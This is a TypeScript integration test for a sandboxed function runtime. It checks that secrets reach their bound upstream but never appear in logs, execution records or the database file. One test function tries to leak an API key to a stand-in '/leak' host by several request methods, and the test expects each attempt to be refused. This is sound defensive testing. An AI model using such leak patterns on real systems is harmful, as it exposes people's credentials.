// Secrets never enter the sandbox, end to end: real isolates, a registry in a database file, a loopback
// API reached through the egress client. What a function builds from `ctx.secrets.get` (a form body, an
// escape(), a Basic credential) reaches the upstream with the value in, and no record, database byte or
// MCP result holds the value in any encoding; a secret sent to a host it is not bound to is refused.

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLiveHost } from '../../core/runtime/index.ts';
import { startLoopbackApi, type LoopbackApi } from './helpers/loopback-api.ts';
import { connectMcp, type ConnectedClient } from './helpers/mcp-client.ts';
import { createSecretRunSetup, definition, EVENT, type SecretRunSetup } from './helpers/secret-run-setup.ts';
import { formsIn } from './helpers/secret-forms.ts';

// An Entra client secret: they often contain "~", which encodeURIComponent keeps and a form body encodes.
const ENTRA_SECRET = 'Q~8Xy.ab_cd~EfGh1234567890-zz~Kq';
const API_KEY = 'k3y-Value_0123456789abcdefXYZ';

let setup: SecretRunSetup;
let api: LoopbackApi;
let mcp: ConnectedClient;

const origin = (host: string) => `http://${host}.example.test:${api.port}`;
/** An egress entry for the loopback API: without a port, only 443 (or 80) would be reachable. */
const host = (name: string) => `${name}.example.test:${api.port}`;

beforeAll(async () => {
  setup = createSecretRunSetup();
  api = await startLoopbackApi();
  mcp = await connectMcp(setup);
});

afterAll(async () => {
  await mcp.close();
  await api.close();
  await setup.close();
});

describe('a function written the old way (plain secret names, the value built into the request)', () => {
  it('sends an Entra secret with "~" in a form body and a Basic credential; no record, database byte or get_execution holds it', async () => {
    setup.secrets.set('ENTRA_CLIENT_SECRET', ENTRA_SECRET);
    await setup.publishApproved(definition(`name: 'entra-token-old-way', egress: ['${host('login')}'], secrets: ['ENTRA_CLIENT_SECRET']`, `
    const secret = await ctx.secrets.get('ENTRA_CLIENT_SECRET');
    const form = new URLSearchParams({ grant_type: 'client_credentials', client_id: 'app-1', client_secret: secret }).toString();
    ctx.log.info('token request ' + form, { escaped: escape(secret) });
    const response = await ctx.http.fetch('${origin('login')}/echo/token', {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', authorization: 'Basic ' + btoa('app-1:' + secret) },
      body: form,
    });
    return { form, escaped: escape(secret), echoed: await response.json() };`));
    expect(setup.registry.getVersion('entra-token-old-way')?.manifest).toEqual({
      name: 'entra-token-old-way', description: 'A secret test.', trigger: 'manual', egress: [host('login')], secrets: ['ENTRA_CLIENT_SECRET'],
    });

    const { execution } = await mcp.call('run_function', { name: 'entra-token-old-way', input: EVENT });

    // The upstream got the value, encoded for where it stands.
    const [seen] = api.requests.slice(-1);
    expect(new URLSearchParams(seen?.body).get('client_secret')).toBe(ENTRA_SECRET);
    expect(seen?.body).toContain(`client_secret=${new URLSearchParams({ v: ENTRA_SECRET }).toString().slice(2)}`);
    expect(seen?.headers.authorization).toBe(`Basic ${Buffer.from(`app-1:${ENTRA_SECRET}`).toString('base64')}`);
    // No form of the value anywhere: run_function's answer, get_execution, the database file.
    const stored = await mcp.call('get_execution', { id: execution.id });
    expect(formsIn(JSON.stringify(execution), ENTRA_SECRET)).toEqual([]);
    expect(formsIn(JSON.stringify(stored), ENTRA_SECRET)).toEqual([]);
    expect(formsIn(setup.databaseBytes(), ENTRA_SECRET)).toEqual([]);
    // The record shows where the secret went, never what it is.
    expect(execution.outcome).toMatchObject({ kind: 'returned', value: { form: 'grant_type=client_credentials&client_id=app-1&client_secret=[secret:ENTRA_CLIENT_SECRET]' } });
    expect(execution.calls[0].headers.authorization).toBe('Basic [secret:ENTRA_CLIENT_SECRET]');
  });

  it('the function itself never holds the value: every encoding of what it got is free of it', async () => {
    setup.secrets.set('API_KEY', API_KEY);
    await setup.publishApproved(definition(`name: 'encodes-its-secret', egress: ['${host('api')}'], secrets: ['API_KEY']`, `
    const key = await ctx.secrets.get('API_KEY');
    const bytes = new TextEncoder().encode(key);
    const forms = {
      plain: key, base64: btoa(key), basic: btoa('u:' + key), hex: Array.from(bytes, (byte) => byte.toString(16).padStart(2, '0')).join(''),
      reversed: [...key].reverse().join(''), characters: [...key], upper: key.toUpperCase(), lower: key.toLowerCase(),
      uri: encodeURIComponent(key), escaped: escape(key), json: JSON.stringify({ key }), codes: [...key].map((character) => character.charCodeAt(0)),
    };
    for (const [name, form] of Object.entries(forms)) ctx.log.info(name + ' ' + String(form), { form });
    console.log(JSON.stringify(forms));
    return forms;`));
    const version = setup.registry.getVersion('encodes-its-secret');
    if (version === undefined) throw new Error('not published');
    // What the sandbox hands back, before any redaction: the raw run.
    const live = createLiveHost({ manifest: version.manifest, directory: setup.directory, secrets: setup.secrets, fetch: setup.fetchFor(version.manifest.egress) });
    const raw = await setup.toolchain.runner.run({ bundle: version.bundle, sourceMap: version.sourceMap, event: EVENT }, live.host);
    expect(raw.outcome.kind).toBe('returned');
    expect(raw.logs.length).toBeGreaterThan(10);
    expect(formsIn(JSON.stringify(raw), API_KEY)).toEqual([]);
  });
});

describe('bindings', () => {
  it('refuses a secret sent to a host it is not bound to, however the function puts it in the request', async () => {
    await setup.publishApproved(definition(`name: 'sends-to-the-wrong-host', egress: ['${host('api')}', '${host('hooks')}'], secrets: [{ name: 'API_KEY', hosts: ['${host('api')}'] }]`, `
    const key = await ctx.secrets.get('API_KEY');
    const wrong = '${origin('hooks')}/leak';
    const attempts = [
      () => ctx.http.fetch(wrong + '?key=' + encodeURIComponent(key)),
      () => ctx.http.fetch(wrong, { method: 'POST', body: { key } }),
      () => ctx.http.fetch(wrong, { headers: { 'x-key': key } }),
      () => ctx.http.fetch(wrong, { headers: { authorization: 'Basic ' + btoa('user:' + key) } }),
      () => ctx.http.fetch(wrong, { auth: { bearer: 'API_KEY' } }),
    ];
    const outcomes: string[] = [];
    for (const attempt of attempts) {
      try { await attempt(); outcomes.push('sent'); } catch (error) { outcomes.push((error as Error).message); }
    }
    return outcomes;`));
    const before = api.requests.length;
    const execution = await setup.run('sends-to-the-wrong-host');
    const refusal = `secret "API_KEY" may only be sent to ${host('api')}; this request goes to hooks.example.test`;
    expect(execution.outcome).toEqual({ kind: 'returned', value: [refusal, refusal, refusal, refusal, refusal] });
    expect(api.requests.length).toBe(before);
  });
});

